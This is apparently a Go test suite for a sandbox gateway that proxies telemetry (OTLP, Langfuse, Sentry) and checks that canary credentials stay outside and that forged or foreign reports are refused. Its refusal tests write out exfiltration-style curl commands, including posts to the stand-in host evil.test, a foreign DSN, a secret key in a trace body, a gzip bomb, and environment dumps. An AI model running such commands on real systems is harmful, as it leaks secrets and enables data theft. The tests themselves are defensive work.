package main

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"gatehouse/internal/outside"
	"gatehouse/receipts"
)

// Credentials of telemetry connections, which must never enter a sandbox.
var (
	traceKey  = unique("otlp", "CANARY-otlp-")
	fuseKey   = unique("langfuse public", "pk-lf-CANARY-") + ":" + unique("langfuse secret", "sk-lf-CANARY-")
	sentryDSN = "https://cana0123" + hex.EncodeToString([]byte(rand.Text())[:12]) + "@o1.ingest.good.test/42"
)

// telemetryFakes are counting sinks.
type telemetryFakes struct {
	*outside.World
	evil *outside.Site
	mu   sync.Mutex
	got  []report
}

type report struct{ path, auth, body string }

func (f *telemetryFakes) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	if r.Header.Get("Content-Encoding") == "gzip" {
		if z, err := gzip.NewReader(bytes.NewReader(b)); err == nil {
			b, _ = io.ReadAll(z)
		}
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	f.got = append(f.got, report{r.Host + r.URL.Path, r.Header.Get("Authorization") + r.Header.Get("X-Sentry-Auth"), string(b)})
	_, _ = io.WriteString(w, "OUTSIDE WORDS")
}

func (f *telemetryFakes) take() []report {
	f.mu.Lock()
	defer f.mu.Unlock()
	got := f.got
	f.got = nil
	return got
}

func telemetryWorld(t *testing.T) (*telemetryFakes, string) {
	t.Helper()
	base, err := outside.New()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(base.Close)
	f := &telemetryFakes{World: base}
	for i, host := range []string{"otlp.good.test", "cloud.langfuse.com", "o1.ingest.good.test"} {
		if _, err := base.HTTPS(host, netip.AddrFrom4([4]byte{93, 184, 216, byte(70 + i)}), f); err != nil {
			t.Fatal(err)
		}
	}
	if f.evil, err = base.HTTPS("evil.test", netip.MustParseAddr("93.184.216.80"), http.NotFoundHandler()); err != nil {
		t.Fatal(err)
	}
	dir := tempDir(t)
	tools := func(name string) string {
		path, err := filepath.Abs(filepath.Join("..", "..", ".tools", name))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := os.Stat(path); err != nil {
			t.Fatalf("%s is missing: run make setup", name)
		}
		return path
	}
	client := filepath.Join(dir, "otelclient")
	build := exec.CommandContext(t.Context(), "go", "build", "-C", filepath.Join("testdata", "otelclient"), "-o", client, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOWORK=off")
	if b, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build the OTel Go client: %v\n%s", err, b)
	}
	upstreams, err := json.Marshal(base.Upstreams())
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "ca.pem"), string(base.CA()))
	write(t, filepath.Join(dir, "otlp.key"), traceKey+"\n")
	write(t, filepath.Join(dir, "fuse.key"), fuseKey+"\n")
	write(t, filepath.Join(dir, "sentry.dsn"), sentryDSN+"\n")
	write(t, filepath.Join(dir, "gatehouse.yaml"), fmt.Sprintf(`sandbox: {unlimited: accepted}
dev: {upstreams: %s, dns: %q, ca: ca.pem}
connections:
  - {name: traces-main, kind: telemetry, provider: otlp, host: otlp.good.test, scheme: bearer, credential: "${file:otlp.key}"}
  - {name: langfuse-main, kind: telemetry, provider: langfuse, credential: "${file:fuse.key}"}
  - {name: sentry-main, kind: telemetry, provider: sentry, credential: "${file:sentry.dsn}"}
`, upstreams, base.DNS.Addr()))
	write(t, filepath.Join(dir, "bundle.yaml"), fmt.Sprintf(`apiVersion: gatehouse/v1
kind: Bundle
name: reports
accepts: member
session:
  agent: {command: {argv: ["true"]}}
  task: go
  timeout: 2m
  mounts:
    - {source: %s, path: /opt/node}
    - {source: %s, path: /opt/telemetry}
    - {source: %s, path: /opt/otelclient}
telemetry: [traces-main, langfuse-main, sentry-main]
`, tools("node-22"), tools("telemetry"), client))
	return f, dir
}

// telemetryClients are SDKs as they come, each with what must arrive where.
var telemetryClients = map[string]struct {
	script string
	want   map[string]string // path outside: what stands in the report
}{
	"otlp_js_proto": {`
import {TracerProvider, SimpleSpanProcessor} from "@opentelemetry/sdk-trace";
import {OTLPTraceExporter} from "@opentelemetry/exporter-trace-otlp-proto";
const p = new TracerProvider({spanProcessors: [new SimpleSpanProcessor({exporter: new OTLPTraceExporter()})]});
p.getTracer("t").startSpan("js-proto-span", {attributes: {"session.id": "s-forged"}}).end();
await p.shutdown(); console.log("reported");`, map[string]string{"otlp.good.test/v1/traces": "js-proto-span"}},
	"otlp_js_json": {`
import {TracerProvider, SimpleSpanProcessor} from "@opentelemetry/sdk-trace";
import {OTLPTraceExporter} from "@opentelemetry/exporter-trace-otlp-http";
const p = new TracerProvider({spanProcessors: [new SimpleSpanProcessor({exporter: new OTLPTraceExporter()})]});
p.getTracer("t").startSpan("js-json-span", {attributes: {"session.id": "s-forged"}}).end();
await p.shutdown(); console.log("reported");`, map[string]string{"otlp.good.test/v1/traces": "js-json-span"}},
	"langfuse_js": {`
import {Langfuse} from "langfuse";
const l = new Langfuse();
const t = l.trace({name: "langfuse-trace", sessionId: "s-forged", public: true});
t.generation({name: "g", model: "m", input: "hi", output: "there"}).end();
await l.shutdownAsync(); console.log("reported");`, map[string]string{"cloud.langfuse.com/api/public/ingestion": "langfuse-trace"}},
	"sentry_node": {`
import * as Sentry from "@sentry/node";
Sentry.init({dsn: process.env.SENTRY_DSN, tracesSampleRate: 1});
Sentry.captureException(new Error("sentry-error"));
if (!await Sentry.flush(10000)) process.exit(1);
console.log("reported");`, map[string]string{"o1.ingest.good.test/api/42/envelope/": "sentry-error"}},
	"otel_go": {"", map[string]string{"otlp.good.test/v1/traces": "go-span", "otlp.good.test/v1/metrics": "go-counter"}},
}

// TestTelemetryClients: SDKs in hard sessions deliver without a key; what leaves
// says whose session it is, whatever they said.
func TestTelemetryClients(t *testing.T) {
	if testing.Short() {
		t.Skip("short: starts a sandbox")
	}
	f, dir := telemetryWorld(t)
	script := "env; cat /proc/self/environ; cd /opt/telemetry\n"
	var names []string
	for name := range telemetryClients {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		script += "echo '== " + name + "'\n"
		if source := telemetryClients[name].script; source == "" {
			script += "/opt/otelclient\n"
		} else {
			script += "/opt/node/bin/node --input-type=module <<'EOF'\n" + source + "\nEOF\n"
		}
	}
	out, res := runInside(t, dir, "hard", script)
	if res.Exit != receipts.ExitComplete {
		t.Errorf("receipts: %s", res.Verdict())
	}
	if strings.Contains(out, "CANARY") || strings.Contains(out, "cana0123") {
		t.Error("ME-01: a credential is inside")
	}
	if strings.Contains(out, "OUTSIDE WORDS") {
		t.Error("the sink's answer came inside")
	}
	got := f.take()
	for _, r := range got {
		if !strings.Contains(r.auth, "CANARY") && !strings.Contains(r.auth, "cana0123") && !strings.Contains(r.auth, "Basic ") || strings.Contains(r.auth+r.body, "gatehouse_ph_") {
			t.Errorf("%s went out under another identity than the connection's", r.path)
		}
		if strings.Contains(r.body, "s-forged") {
			t.Errorf("ME-21: a forged session id left: %q", r.body)
		}
	}
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			_, said, _ := strings.Cut(out, "== "+name+"\n")
			said, _, _ = strings.Cut(said, "\n==")
			if !strings.Contains(said, "reported") {
				t.Errorf("it says:\n%s", said)
			}
			for path, want := range telemetryClients[name].want {
				if !slices.ContainsFunc(got, func(r report) bool { return r.path == path && strings.Contains(r.body, want) }) {
					t.Errorf("%s saw no %s", path, want)
				}
			}
		})
	}
}

// TestTelemetryRefused: what is no report of the session's own does not leave,
// each time with a receipt.
func TestTelemetryRefused(t *testing.T) {
	if testing.Short() {
		t.Skip("short: starts a sandbox")
	}
	f, dir := telemetryWorld(t)
	const base = "http://gatehouse.internal/t/"
	rows := map[string]struct{ curl, code string }{
		"ME-21_gzip_bomb":    {`head -c 40000000 /dev/zero | gzip -9 | curl -sS --data-binary @- -H 'Content-Type: application/x-protobuf' -H 'Content-Encoding: gzip' ` + base + `traces-main/v1/traces`, "telemetry_size"},
		"ME-21_attachment":   {`printf '{}\n{"type":"attachment","length":3}\nabc\n' | curl -sS --data-binary @- "` + base + `sentry-main/api/1/envelope/"`, "telemetry_item"},
		"ME-21_read":         {`curl -sS -u "$LANGFUSE_PUBLIC_KEY:$LANGFUSE_SECRET_KEY" ` + base + `langfuse-main/api/public/traces`, "telemetry_route"},
		"ME-21_read_host":    {`curl -sS -u "$LANGFUSE_PUBLIC_KEY:$LANGFUSE_SECRET_KEY" https://cloud.langfuse.com/api/public/traces`, "telemetry_route"},
		"ME-21_foreign_dsn":  {`printf '{"dsn":"https://feed0123@evil.test/9"}\n{"type":"event"}\n{}\n' | curl -sS --data-binary @- "` + base + `sentry-main/api/1/envelope/"`, "telemetry_foreign_dsn"},
		"ME-21_foreign_key":  {`printf '{}\n{"type":"event"}\n{}\n' | curl -sS --data-binary @- "` + base + `sentry-main/api/1/envelope/?sentry_key=feed0123456789abcdef"`, "telemetry_foreign_dsn"},
		"ME-21_foreign_host": {`curl -sS -o /dev/null -w '%{http_code}' -d '{}' -H 'Content-Type: application/json' https://evil.test/v1/traces; echo host_not_listed`, "host_not_listed"},
		"environment":        {`printf '{"batch":[{"type":"trace-create","body":{"name":"%s"}}]}' "$LANGFUSE_SECRET_KEY" | curl -sS --data-binary @- -H 'Content-Type: application/json' ` + base + `langfuse-main/api/public/ingestion`, "telemetry_secret"},
	}
	names := []string{}
	script := ""
	for name := range rows {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		script += "echo '== " + name + "'\n" + rows[name].curl + "\n"
	}
	out, res := runInside(t, dir, "hard", script)
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			_, said, _ := strings.Cut(out, "== "+name+"\n")
			said, _, _ = strings.Cut(said, "\n==")
			if !strings.Contains(said, rows[name].code) {
				t.Errorf("no %s in %s", rows[name].code, said)
			}
		})
	}
	if got := f.take(); len(got) != 0 || f.evil.Accepts() != 0 {
		t.Errorf("outside saw %+v, and %d connections", got, f.evil.Accepts())
	}
	if res.Exit != receipts.ExitComplete {
		t.Errorf("receipts: %s", res.Verdict())
	}
}
